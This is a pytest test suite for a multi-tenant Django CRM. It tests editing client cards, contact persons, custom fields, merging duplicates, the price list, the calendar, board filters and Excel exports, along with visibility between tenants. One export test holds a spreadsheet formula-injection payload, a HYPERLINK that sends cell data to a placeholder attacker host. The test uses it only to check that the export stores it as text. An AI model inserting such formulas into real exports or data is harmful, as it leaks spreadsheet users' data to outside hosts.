"""The client base beyond creation: editing cards, contact persons, custom fields, merging,
the price list, the calendar, and the board's filters — with visibility and isolation."""

from __future__ import annotations

from datetime import datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection as django_connection
from django.test.utils import CaptureQueriesContext

from crm_core.models import (
    Activity,
    AuditEntry,
    Client,
    Contact,
    CustomField,
    Deal,
    DealItem,
    Phone,
    Product,
    Task,
)
from crm_core.queries.deals import board
from crm_core.services.clients import ClientInput, create_client
from crm_core.services.deals import create_deal
from crm_core.services.fields import add_field
from crm_core.services.items import add_item
from crm_core.services.merge import merge_clients
from crm_core.services.tasks import create_task
from tenants.models import Membership
from tests.test_isolation import login_on_host


def _client(crm: Any, member: Any, name: str, **kwargs: Any) -> Client:
    return create_client(
        membership=member, company=crm.a.company, data=ClientInput(name=name, **kwargs)
    )


def _browser(crm: Any, member: Any) -> Any:
    browser = login_on_host(member.user, crm.a.company, crm.a.host)
    browser.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"  # messages asserted in English
    return browser


def _edit_data(client: Client, **changes: Any) -> dict[str, Any]:
    data = {
        "kind": client.kind,
        "name": client.name,
        "inn": client.inn,
        "version": client.version,
        "tags": "",
    }
    data.update(changes)
    return data


# --- Custom fields ---------------------------------------------------------------------------
def test_admin_defines_fields_and_deals_keep_values_usable_in_filters(crm: Any) -> None:
    admin = _browser(crm, crm.owner)
    for label, kind, choices in [
        ("Тип окна", "choice", "ПВХ\nДерево\nАлюминий"),
        ("Площадь, м²", "number", ""),
        ("Дата замера", "date", ""),
        ("Монтаж нужен", "boolean", ""),
    ]:
        response = admin.post(
            "/settings/fields/",
            {"entity": "deal", "label": label, "kind": kind, "choices": choices},
            HTTP_HOST=crm.a.host,
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    with crm.a:
        fields = {f.label: f for f in CustomField.objects.all()}
        assert fields["Тип окна"].key == "tip_okna"
        assert fields["Тип окна"].choices == ["ПВХ", "Дерево", "Алюминий"]
        wooden = create_deal(membership=crm.manager, title="Дерево", pipeline=crm.pipeline)
        plastic = create_deal(membership=crm.manager, title="Пластик", pipeline=crm.pipeline)
    seller = _browser(crm, crm.manager)
    for deal, kind, area, when in [
        (wooden, "Дерево", "12,5", "2026-12-01"),
        (plastic, "ПВХ", "4", "2026-11-03"),
    ]:
        response = seller.post(
            f"/deals/{deal.pk}/edit/",
            {
                "edit-title": deal.title,
                "edit-amount": "100",
                "edit-version": 1,
                f"edit-cf_{fields['Тип окна'].key}": kind,
                f"edit-cf_{fields['Площадь, м²'].key}": area.replace(",", "."),
                f"edit-cf_{fields['Дата замера'].key}": when,
                f"edit-cf_{fields['Монтаж нужен'].key}": "on",
            },
            HTTP_HOST=crm.a.host,
        )
        assert response.status_code == 302
    with crm.a:
        wooden.refresh_from_db()
        assert wooden.custom == {
            "tip_okna": "Дерево",
            fields["Площадь, м²"].key: 12.5,
            fields["Дата замера"].key: "2026-12-01",
            fields["Монтаж нужен"].key: True,
        }
    area_key = f"cf_{fields['Площадь, м²'].key}"
    date_key = f"cf_{fields['Дата замера'].key}"

    def listed(query: dict[str, str]) -> str:
        return seller.get("/deals/list/", query, HTTP_HOST=crm.a.host).content.decode()

    wood, pvc = f'href="/deals/{wooden.pk}/"', f'href="/deals/{plastic.pk}/"'
    page = listed({"cf_tip_okna": "Дерево"})
    assert wood in page
    assert pvc not in page
    page = listed({area_key + "__min": "5"})
    assert wood in page
    assert pvc not in page
    page = listed({date_key + "__to": "2026-11-30"})
    assert pvc in page
    assert wood not in page
    # Shown as a column and on the card, in the viewer's number format.
    assert "12.5" in seller.get(f"/deals/{wooden.pk}/", HTTP_HOST=crm.a.host).content.decode()
    # The board filters by the same fields.
    board_page = seller.get(
        "/deals/", {"cf_tip_okna": "ПВХ"}, HTTP_HOST=crm.a.host
    ).content.decode()
    assert pvc in board_page
    assert wood not in board_page


def test_only_admins_manage_fields_and_bad_definitions_are_explained(crm: Any) -> None:
    manager = _browser(crm, crm.manager)
    assert manager.get("/settings/fields/", HTTP_HOST=crm.a.host).status_code == 404
    with crm.a, pytest.raises(PermissionDenied):
        add_field(membership=crm.manager, entity="deal", label="X", kind="text", choices=[])
    admin = _browser(crm, crm.owner)
    response = admin.post(
        "/settings/fields/",
        {"entity": "client", "label": "Сегмент", "kind": "choice", "choices": ""},
        HTTP_HOST=crm.a.host,
    )
    assert response.status_code == 200
    assert "List the choices, one per line." in response.content.decode()
    with crm.a:
        assert not CustomField.objects.exists()


def test_hiding_a_field_keeps_the_values(crm: Any) -> None:
    with crm.a:
        field = add_field(
            membership=crm.owner, entity="client", label="Сайт конкурента", kind="text", choices=[]
        )
        client = _client(crm, crm.manager, "ООО Ромашка")
        Client.objects.filter(pk=client.pk).update(custom={field.key: "example.ru"})
    admin = _browser(crm, crm.owner)
    admin.post(
        f"/settings/fields/{field.pk}/",
        {"label": field.label, "choices": "", "show_in_list": "", "is_active": ""},
        HTTP_HOST=crm.a.host,
    )
    # Saving the card without the hidden field does not drop its value.
    with crm.a:
        client.refresh_from_db()
    admin.post(
        f"/clients/{client.pk}/edit/",
        _edit_data(client, industry="Окна"),
        HTTP_HOST=crm.a.host,
    )
    with crm.a:
        client.refresh_from_db()
        assert client.industry == "Окна"
        assert client.custom == {field.key: "example.ru"}


# --- Client card and contact persons ---------------------------------------------------------
def test_client_card_is_edited_with_clear_errors_and_every_change_audited(crm: Any) -> None:
    with crm.a:
        client = _client(crm, crm.manager, "Ромашка")
    browser = _browser(crm, crm.manager)
    bad = browser.post(
        f"/clients/{client.pk}/edit/",
        _edit_data(client, inn="7707083894", kpp="12", bik="04452522", bank_account="1"),
        HTTP_HOST=crm.a.host,
    ).content.decode()
    assert "is not valid" in bad  # INN checksum
    assert "A KPP has 9 characters" in bad
    assert "A BIK has 9 digits." in bad
    assert "An account number has 20 digits." in bad
    ok = browser.post(
        f"/clients/{client.pk}/edit/",
        _edit_data(
            client,
            name="ООО «Ромашка»",
            inn="7707083893",
            kpp="770701001",
            tags="опт, VIP, опт",
            website="romashka.ru",
        ),
        HTTP_HOST=crm.a.host,
    )
    assert ok.status_code == 302
    with crm.a:
        client.refresh_from_db()
        assert (client.name, client.inn, client.tags) == (
            "ООО «Ромашка»",
            "7707083893",
            ["опт", "VIP"],
        )
        assert client.website == "https://romashka.ru"
        entry = AuditEntry.objects.filter(object_type="client", action="update").get()
        assert entry.changes["name"] == ["Ромашка", "ООО «Ромашка»"]
        assert entry.actor_id == crm.manager.user_id
    # A second person saving from the old version is told, and nothing is overwritten.
    stale = browser.post(
        f"/clients/{client.pk}/edit/",
        _edit_data(client, name="Другое", version=1),
        HTTP_HOST=crm.a.host,
    ).content.decode()
    assert "changed by someone else" in stale
    with crm.a:
        assert Client.objects.get(pk=client.pk).name == "ООО «Ромашка»"


def test_read_only_and_colleagues_cannot_change_a_client(crm: Any) -> None:
    with crm.a:
        client = _client(crm, crm.manager, "Ромашка")
    viewer = _browser(crm, crm.viewer)
    response = viewer.post(
        f"/clients/{client.pk}/edit/", _edit_data(client, name="X"), HTTP_HOST=crm.a.host
    )
    assert "Your role can only look" in response.content.decode()
    colleague = _browser(crm, crm.colleague)
    for path in (f"/clients/{client.pk}/", f"/clients/{client.pk}/edit/"):
        assert colleague.get(path, HTTP_HOST=crm.a.host).status_code == 404
    with crm.a:
        assert Client.objects.get(pk=client.pk).name == "Ромашка"


def test_contact_persons_with_several_phones_and_emails(crm: Any) -> None:
    with crm.a:
        client = _client(crm, crm.manager, "Ромашка")
    browser = _browser(crm, crm.manager)
    bad = browser.post(
        f"/clients/{client.pk}/contacts/new/",
        {"last_name": "Петров", "phones": "12", "emails": "not-an-email"},
        HTTP_HOST=crm.a.host,
    ).content.decode()
    assert "Enter a valid email address." in bad
    response = browser.post(
        f"/clients/{client.pk}/contacts/new/",
        {
            "last_name": "Петров",
            "first_name": "Иван",
            "position": "Главный инженер",
            "phones": "8 (916) 123-45-67\n+7 727 258 12 34 доб. 12",
            "emails": "Ivan@Romashka.RU",
            "telegram": "@petrov",
        },
        HTTP_HOST=crm.a.host,
    )
    assert response.status_code == 302
    with crm.a:
        contact = Contact.objects.get(client=client)
        phones = sorted(Phone.objects.filter(contact=contact).values_list("e164", "extension"))
        assert phones == [("+77272581234", "12"), ("+79161234567", "")]
        assert contact.emails == ["ivan@romashka.ru"]
        assert contact.messengers == {"telegram": "@petrov"}
    card = browser.get(f"/clients/{client.pk}/", HTTP_HOST=crm.a.host).content.decode()
    assert "Главный инженер" in card
    assert "ivan@romashka.ru" in card
    # An impossible phone is refused with the reason, nothing saved.
    bad_phone = browser.post(
        f"/contacts/{contact.pk}/",
        {"last_name": "Петров", "phones": "12"},
        HTTP_HOST=crm.a.host,
    ).content.decode()
    assert "12" in bad_phone
    assert "phone" in bad_phone.lower()
    with crm.a:
        assert Phone.objects.filter(contact=contact).count() == 2


# --- Merge -----------------------------------------------------------------------------------
def test_merging_two_records_keeps_all_history(crm: Any) -> None:
    with crm.a:
        keep = _client(crm, crm.manager, "Ромашка", phones=["+7 916 123-45-67"])
        other = _client(
            crm,
            crm.manager,
            "ООО Ромашка",
            inn="7707083893",
            phones=["8 916 123 45 67"],
            contact_name="Петров Иван",
            email="ivan@romashka.ru",
        )
        Client.objects.filter(pk=other.pk).update(tags=["опт"], custom={"segment": "B2B"})
        deal = create_deal(
            membership=crm.manager, title="Окна", pipeline=crm.pipeline, client=other
        )
        create_task(
            membership=crm.manager,
            title="Перезвонить",
            deadline=datetime.now(ZoneInfo("UTC")) + timedelta(days=1),
            deal=deal,
        )
        Task.objects.filter(deal=deal).update(client=other)
    browser = _browser(crm, crm.manager)
    card = browser.get(f"/clients/{keep.pk}/", HTTP_HOST=crm.a.host).content.decode()
    assert f"/clients/{keep.pk}/merge/{other.pk}/" in card  # offered: the same phone
    preview = browser.get(f"/clients/{keep.pk}/merge/{other.pk}/", HTTP_HOST=crm.a.host)
    assert "ООО Ромашка" in preview.content.decode()
    response = browser.post(f"/clients/{keep.pk}/merge/{other.pk}/", HTTP_HOST=crm.a.host)
    assert response.status_code == 302
    with crm.a:
        assert not Client.objects.filter(pk=other.pk).exists()
        keep.refresh_from_db()
        assert keep.inn == "7707083893"
        assert keep.tags == ["опт"]
        assert keep.custom == {"segment": "B2B"}
        assert Deal.objects.get(pk=deal.pk).client_id == keep.pk
        assert Task.objects.get(deal=deal).client_id == keep.pk
        assert Contact.objects.get(emails__contains=["ivan@romashka.ru"]).client_id == keep.pk
        assert Phone.objects.filter(client=keep).count() == 1  # the same number once
        summaries = set(Activity.objects.filter(client=keep).values_list("summary", flat=True))
        assert "Merged with ООО Ромашка" in summaries
        assert AuditEntry.objects.filter(
            object_type="client", object_id=other.pk, action="delete"
        ).exists()
        assert AuditEntry.objects.filter(
            object_type="client", object_id=keep.pk, action="merge"
        ).exists()


def test_merge_needs_both_records_visible_and_write_access(crm: Any) -> None:
    with crm.a:
        mine = _client(crm, crm.manager, "Мой")
        theirs = _client(crm, crm.colleague, "Чужой")
    browser = _browser(crm, crm.manager)
    assert (
        browser.post(f"/clients/{mine.pk}/merge/{theirs.pk}/", HTTP_HOST=crm.a.host).status_code
        == 404
    )
    with crm.a:
        with pytest.raises(PermissionDenied):
            merge_clients(membership=crm.manager, keep=mine, other=theirs)
        with pytest.raises(PermissionDenied):
            merge_clients(membership=crm.viewer, keep=mine, other=theirs)
        assert Client.objects.filter(pk__in=[mine.pk, theirs.pk]).count() == 2


# --- Price list ------------------------------------------------------------------------------
def test_price_list_is_kept_by_admins_and_sold_from_on_deals(crm: Any) -> None:
    admin = _browser(crm, crm.owner)
    response = admin.post(
        "/products/new/",
        {
            "name": "Окно ПВХ 1200×1400",
            "sku": "W-1214",
            "unit": "шт",
            "vat_rate": "22",
            "price": "18500",
            "is_active": "on",
        },
        HTTP_HOST=crm.a.host,
    )
    assert response.status_code == 302
    duplicate = admin.post(
        "/products/new/",
        {"name": "Другое", "sku": "W-1214", "unit": "шт", "vat_rate": "22", "price": "1"},
        HTTP_HOST=crm.a.host,
    ).content.decode()
    assert "Another product already has this SKU." in duplicate
    manager = _browser(crm, crm.manager)
    assert "Окно ПВХ 1200×1400" in manager.get("/products/", HTTP_HOST=crm.a.host).content.decode()
    assert manager.get("/products/new/", HTTP_HOST=crm.a.host).status_code == 404
    with crm.a:
        deal = create_deal(membership=crm.manager, title="Окна", pipeline=crm.pipeline)
    manager.post(
        f"/deals/{deal.pk}/items/",
        {"item-name": "окно пвх 1200×1400", "item-quantity": "2", "item-price": ""},
        HTTP_HOST=crm.a.host,
    )
    with crm.a:
        item = DealItem.objects.get(deal=deal)
        assert item.product == Product.objects.get(sku="W-1214")
        assert item.price == Decimal("18500.00")
        assert Deal.objects.get(pk=deal.pk).amount == Decimal("37000.00")
        # A line without a catalogue product and without a price is refused.
        with pytest.raises(Exception, match="Enter the price"):
            add_item(
                membership=crm.manager, deal=deal, name="Нечто", quantity=Decimal(1), price=None
            )


# --- Calendar --------------------------------------------------------------------------------
def test_calendar_shows_tasks_on_their_day_in_the_company_time_zone(crm: Any) -> None:
    zone = ZoneInfo(crm.a.company.time_zone)
    # 23:30 in the company's zone on the 10th is still the 10th there (already the 11th in Asia).
    late = datetime(2026, 12, 10, 23, 30, tzinfo=zone)
    with crm.a:
        deal = create_deal(membership=crm.manager, title="Окна", pipeline=crm.pipeline)
        Task.objects.create(
            title="Замер у Петрова", deadline=late, deal=deal, assignee=crm.manager.user
        )
        # On a colleague's deal (a task on nothing is personal: only its people see it).
        theirs = create_deal(membership=crm.colleague, title="Балкон", pipeline=crm.pipeline)
        Task.objects.create(
            title="Чужая задача", deadline=late, deal=theirs, assignee=crm.colleague.user
        )
    browser = _browser(crm, crm.manager)
    page = browser.get(
        "/tasks/calendar/", {"month": "2026-12"}, HTTP_HOST=crm.a.host
    ).content.decode()
    cell = page.split('href="?view=day&amp;date=2026-12-10')[1].split("</td>")[0]
    assert "Замер у Петрова" in cell
    assert "23:30" in cell
    everyone = browser.get(
        "/tasks/calendar/", {"month": "2026-12", "who": "all"}, HTTP_HOST=crm.a.host
    ).content.decode()
    assert "Чужая задача" not in everyone  # a manager sees only their own
    head = _browser(crm, crm.owner)
    assert (
        "Чужая задача"
        in head.get(
            "/tasks/calendar/", {"month": "2026-12", "who": "all"}, HTTP_HOST=crm.a.host
        ).content.decode()
    )
    # Nonsense in the address shows this month instead of an error.
    assert (
        browser.get("/tasks/calendar/", {"month": "13-x"}, HTTP_HOST=crm.a.host).status_code == 200
    )


# --- Board filters, lists, query counts ------------------------------------------------------
def test_board_filters_by_manager_tag_and_period(crm: Any) -> None:
    with crm.a:
        vip = _client(crm, crm.owner, "VIP-клиент")
        Client.objects.filter(pk=vip.pk).update(tags=["VIP"])
        create_deal(membership=crm.owner, title="Для VIP", pipeline=crm.pipeline, client=vip)
        create_deal(membership=crm.manager, title="Обычная", pipeline=crm.pipeline)
        old = create_deal(membership=crm.owner, title="Прошлогодняя", pipeline=crm.pipeline)
        Deal.objects.filter(pk=old.pk).update(
            created_at=datetime(2025, 1, 5, tzinfo=ZoneInfo("UTC"))
        )

        def titles(**filters: Any) -> set[str]:
            return {d.title for col in board(crm.owner, crm.pipeline, filters) for d in col.deals}

        assert titles(tag="VIP") == {"Для VIP"}
        assert titles(responsible=crm.manager.user_id) == {"Обычная"}
        assert titles(created_to=datetime(2025, 12, 31).date()) == {"Прошлогодняя"}
        # The manager's own visibility still applies under any filter.
        assert {
            d.title for col in board(crm.manager, crm.pipeline, {"tag": "VIP"}) for d in col.deals
        } == set()


def test_lists_page_without_n_plus_one(crm: Any) -> None:
    with crm.a:
        for n in range(30):
            client = _client(crm, crm.owner, f"Клиент {n}", contact_name=f"Иванов{n} Иван")
            Client.objects.filter(pk=client.pk).update(tags=["опт"])
    browser = _browser(crm, crm.owner)
    for path in ("/clients/", "/contacts/", "/clients/?tag=опт&sort=name"):
        browser.get(path, HTTP_HOST=crm.a.host)  # warm the session and caches
        with CaptureQueriesContext(django_connection) as queries:
            response = browser.get(path, HTTP_HOST=crm.a.host)
        assert response.status_code == 200
        # 13: the page's own twelve and the list's saved views (one query, whatever the rows).
        assert len(queries) <= 13, "\n".join(q["sql"][:200] for q in queries)
    page = browser.get("/contacts/", HTTP_HOST=crm.a.host).content.decode()
    assert "Иванов0" in page


def test_lists_respect_visibility(crm: Any) -> None:
    with crm.a:
        _client(crm, crm.manager, "Мой клиент", contact_name="Мойконтакт Иван")
        _client(crm, crm.colleague, "Чужой клиент", contact_name="Чужойконтакт Пётр")
    browser = _browser(crm, crm.manager)
    clients = browser.get("/clients/", HTTP_HOST=crm.a.host).content.decode()
    contacts = browser.get("/contacts/", HTTP_HOST=crm.a.host).content.decode()
    assert "Мой клиент" in clients
    assert "Чужой клиент" not in clients
    assert "Мойконтакт" in contacts
    assert "Чужойконтакт" not in contacts
    head = _browser(crm, crm.head)  # heads the manager's team, not the colleague's
    clients = head.get("/clients/", HTTP_HOST=crm.a.host).content.decode()
    assert "Мой клиент" in clients
    assert "Чужой клиент" not in clients


def test_new_pages_of_a_are_not_reachable_from_b(crm: Any) -> None:
    with crm.a:
        client = _client(crm, crm.owner, "Клиент A")
        field = add_field(
            membership=crm.owner, entity="deal", label="Поле A", kind="text", choices=[]
        )
        product = Product.objects.create(name="Товар A", price=1)
    intruder = login_on_host(crm.b.owner, crm.b.company, crm.b.host)
    for path in (
        f"/clients/{client.pk}/edit/",
        f"/settings/fields/{field.pk}/",
        f"/products/{product.pk}/",
    ):
        # B's schema may hold a record of its own under the same number (each schema counts
        # from where its spare's sequence stood): then B sees that one, never A's.
        page = intruder.get(path, HTTP_HOST=crm.b.host)
        assert page.status_code in {200, 404}, path
        for name in ("Клиент A", "Поле A", "Товар A"):
            assert name not in page.content.decode(), path
    for path in ("/clients/", "/products/", "/settings/fields/", "/tasks/calendar/"):
        body = intruder.get(path, HTTP_HOST=crm.b.host).content.decode()
        assert "Клиент A" not in body
        assert "Поле A" not in body
        assert "Товар A" not in body


def test_list_exports_hold_only_what_the_member_sees_with_the_filters(crm: Any) -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    with crm.a:
        field = add_field(
            membership=crm.owner,
            entity="client",
            label="Сегмент",
            kind="choice",
            choices=["A", "B"],
        )
        mine = _client(crm, crm.manager, "Мой опт")
        Client.objects.filter(pk=mine.pk).update(tags=["опт"], custom={field.key: "A"})
        _client(crm, crm.manager, "Мой розница")
        _client(crm, crm.colleague, "Чужой опт")
        create_deal(
            membership=crm.manager,
            title="Моя сделка",
            pipeline=crm.pipeline,
            amount=Decimal("1500.50"),
        )
        create_deal(membership=crm.colleague, title="Чужая сделка", pipeline=crm.pipeline)
    browser = _browser(crm, crm.manager)

    def sheet(path: str, query: dict[str, str]) -> list[tuple[Any, ...]]:
        response = browser.get(path, query, HTTP_HOST=crm.a.host)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        book = load_workbook(BytesIO(b"".join(response.streaming_content)), read_only=True)
        return list(book.active.iter_rows(values_only=True))

    rows = sheet("/clients/export/", {"tag": "опт"})
    assert [r[0] for r in rows[1:]] == ["Мой опт"]
    assert rows[1][-1] == "A"  # the custom field's column
    rows = sheet("/deals/list/export/", {})
    assert [(r[0], r[3]) for r in rows[1:]] == [("Моя сделка", 1500.5)]


def test_a_list_export_writes_a_formula_like_name_as_text(crm: Any) -> None:
    # Names come from outside (imports, the public request form); Excel must never run them.
    from io import BytesIO

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    with crm.a:
        _client(crm, crm.manager, formula)
    browser = _browser(crm, crm.manager)
    response = browser.get("/clients/export/", HTTP_HOST=crm.a.host)
    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
    cell = book.active.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert cell.value == formula


def test_deal_gets_its_contact_persons_and_a_new_manager(crm: Any) -> None:
    with crm.a:
        client = _client(crm, crm.owner, "Ромашка", contact_name="Петров Иван")
        stranger = Contact.objects.create(last_name="Чужой")  # not this client's person
        petrov = Contact.objects.get(client=client)
        deal = create_deal(membership=crm.owner, title="Окна", pipeline=crm.pipeline, client=client)
        field = add_field(
            membership=crm.owner, entity="contact", label="День рождения", kind="date", choices=[]
        )
    admin = _browser(crm, crm.owner)

    def save(people: list[int]) -> None:
        admin.post(
            f"/deals/{deal.pk}/edit/",
            {
                "edit-title": "Окна",
                "edit-amount": "0",
                "edit-version": deal.version,
                "edit-responsible": crm.manager.user_id,
                "edit-contact_ids": people,
            },
            HTTP_HOST=crm.a.host,
        )

    save([petrov.pk, stranger.pk])  # another client's person: refused, nothing changes
    with crm.a:
        assert Deal.objects.get(pk=deal.pk).responsible_id == crm.owner.user_id
    save([petrov.pk])
    with crm.a:
        deal.refresh_from_db()
        assert deal.responsible_id == crm.manager.user_id
        assert list(deal.contacts.all()) == [petrov]
        entry = AuditEntry.objects.filter(object_type="deal", action="update").latest("at")
        assert entry.changes["contacts"] == [[], [petrov.pk]]
    # The new manager now sees the deal with its people.
    manager = _browser(crm, crm.manager)
    page = manager.get(f"/deals/{deal.pk}/", HTTP_HOST=crm.a.host).content.decode()
    assert "Петров Иван" in page
    # The person belongs to the owner's client: the manager, who sees them through the deal,
    # opens their card to read it (issue #18) but cannot change it…
    card = manager.get(f"/contacts/{petrov.pk}/", HTTP_HOST=crm.a.host)
    assert card.status_code == 200
    assert 'id="contact-read-only"' in card.content.decode()
    refused = manager.post(f"/contacts/{petrov.pk}/", {"last_name": "Другой"}, HTTP_HOST=crm.a.host)
    assert refused.status_code == 403
    admin.post(
        f"/contacts/{petrov.pk}/",
        {"last_name": "Петров", "first_name": "Иван", f"cf_{field.key}": "1980-05-17"},
        HTTP_HOST=crm.a.host,
    )
    with crm.a:  # …the admin can, and the person's own field is saved.
        assert Contact.objects.get(pk=petrov.pk).custom == {field.key: "1980-05-17"}


def test_services_announce_what_happened_for_automation(crm: Any) -> None:
    from crm_core import signals

    heard: list[tuple[str, Any]] = []

    def listen(name: str) -> Any:
        def receiver(sender: Any, **kwargs: Any) -> None:
            heard.append((name, kwargs.get("membership")))

        return receiver

    receivers = {
        name: listen(name)
        for name in ("deal_created", "deal_moved", "deal_changed", "client_created", "task_created")
    }
    for name, receiver in receivers.items():
        getattr(signals, name).connect(receiver)
    try:
        with crm.a:
            client = _client(crm, crm.manager, "Ромашка")
            deal = create_deal(
                membership=crm.manager, title="Окна", pipeline=crm.pipeline, client=client
            )
            from crm_core.services.deals import move_deal, update_deal

            second = crm.pipeline.stages.order_by("position")[1]
            deal = move_deal(membership=crm.manager, deal=deal, stage=second)
            update_deal(membership=crm.manager, deal=deal, version=deal.version, title="Окна ПВХ")
            create_task(
                membership=crm.manager,
                title="Позвонить",
                deadline=datetime.now(ZoneInfo("UTC")) + timedelta(hours=1),
                deal=deal,
            )
    finally:
        for name, receiver in receivers.items():
            getattr(signals, name).disconnect(receiver)
    assert [name for name, _ in heard] == [
        "client_created",
        "deal_created",
        "deal_moved",
        "deal_changed",
        "task_created",
    ]
    assert all(member == crm.manager for _, member in heard)


def test_contact_name_vocabulary_is_kept_by_the_database(crm: Any) -> None:
    from crm_core.models import ContactName

    def counts() -> dict[tuple[str, str], int]:
        return {(w.kind, w.name): w.contacts for w in ContactName.objects.filter(contacts__gt=0)}

    with crm.a:
        Contact.objects.bulk_create(
            [Contact(last_name="Новиков", first_name="Иван") for _ in range(3)]
            + [Contact(last_name="Петров", first_name="")]
        )
        assert counts() == {("l", "Новиков"): 3, ("f", "Иван"): 3, ("l", "Петров"): 1}
        Contact.objects.filter(last_name="Петров").update(last_name="Петрова", first_name="Анна")
        Contact.objects.filter(pk=Contact.objects.filter(last_name="Новиков").first().pk).delete()  # type: ignore[union-attr]
        assert counts() == {
            ("l", "Новиков"): 2,
            ("f", "Иван"): 2,
            ("l", "Петрова"): 1,
            ("f", "Анна"): 1,
        }


def test_card_offers_merges_by_contact_persons_phones_and_emails_within_the_company(
    crm: Any,
) -> None:
    # The card reads its contact persons once for the page and the candidates; each route to
    # a duplicate still counts, the client's own contact persons do not make it its own
    # duplicate, a colleague's client stays unnamed, and company B's is never looked at.
    with crm.a:
        keep = _client(
            crm,
            crm.manager,
            "Окна Север",
            contact_name="Сидоров Пётр",
            phones=["+7 903 555-10-20"],
            email="petr@sever.ru",
        )
        by_email = _client(
            crm, crm.manager, "Север-Окна", contact_name="Пётр Сидоров", email="PETR@sever.ru"
        )
        by_phone = _client(crm, crm.manager, "ИП Сидоров", phones=["8 903 555 10 20"])
        hidden = _client(crm, crm.colleague, "Скрытый двойник", email="petr@sever.ru")
        unrelated = _client(crm, crm.manager, "Другие окна", phones=["+7 903 555-99-99"])
    with crm.b:
        theirs = create_client(
            membership=Membership.objects.get(company=crm.b.company, user=crm.b.owner),
            company=crm.b.company,
            data=ClientInput(name="Двойник из B", phones=["+7 903 555-10-20"]),
        )
    browser = _browser(crm, crm.manager)
    card = browser.get(f"/clients/{keep.pk}/", HTTP_HOST=crm.a.host).content.decode()
    offered = card.split('id="merge-candidates"', 1)[1].split("</div>", 1)[0]
    assert f"/clients/{keep.pk}/merge/{by_email.pk}/" in offered
    assert f"/clients/{keep.pk}/merge/{by_phone.pk}/" in offered
    assert f"/merge/{keep.pk}/" not in offered
    assert "Скрытый двойник" not in offered
    assert f"/merge/{hidden.pk}/" not in offered
    assert "Другие окна" not in offered
    assert f"/merge/{unrelated.pk}/" not in offered
    assert "Двойник из B" not in card
    assert f"/clients/{theirs.pk}/" not in offered or theirs.pk in {by_email.pk, by_phone.pk}
